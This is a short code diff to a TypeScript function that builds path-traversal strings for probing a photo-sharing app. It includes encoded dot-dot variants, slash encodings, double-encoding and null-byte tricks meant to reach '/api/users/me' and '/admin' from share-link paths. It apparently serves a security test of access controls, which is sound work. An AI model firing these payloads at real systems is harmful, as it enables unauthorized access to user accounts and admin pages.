@@ -52,10 +52,14 @@ export function queryTricks({ key, slug, token, apiKey }: Visitor): readonly (re
 export function pathTricks({ key, album, asset }: Visitor): readonly string[] {
   const up = ['..', '%2e%2e', '%2E%2e', '.%2e', '%252e%252e', '..;', '..%00', '.%00.', '%c0%ae%c0%ae'];
   const slash = ['/', '%2f', '%2F', '%5c', '\\', '%252f', '//', '/./'];
-  const climbing = ['/_app/immutable', '/s', `/share/${key}`, '/s/x', `/share/${key}/photos`].flatMap((open) => [
-    ...up.map((dots) => `${open}/${dots}/${dots}/${dots}/api/users/me`),
-    ...slash.map((cut) => `${open}${cut}..${cut}..${cut}..${cut}api${cut}users${cut}me`),
-  ]);
+  // as far up as there is something above: nginx itself refuses to climb over the root
+  const climbing = ['/_app/immutable', '/s', `/share/${key}`, '/s/x', `/share/${key}/photos`].flatMap((open) => {
+    const depth = open.split('/').length - 1;
+    return [
+      ...up.map((dots) => `${open}/${`${dots}/`.repeat(depth)}api/users/me`),
+      ...slash.map((cut) => `${open}${cut}${`..${cut}`.repeat(depth)}api${cut}users${cut}me`),
+    ];
+  });
   return [
     ...climbing,
     ...['//api/users/me', '///admin', '/./admin', '/.//admin', '/../admin', '/api//users/me', '/api/./users/me'],
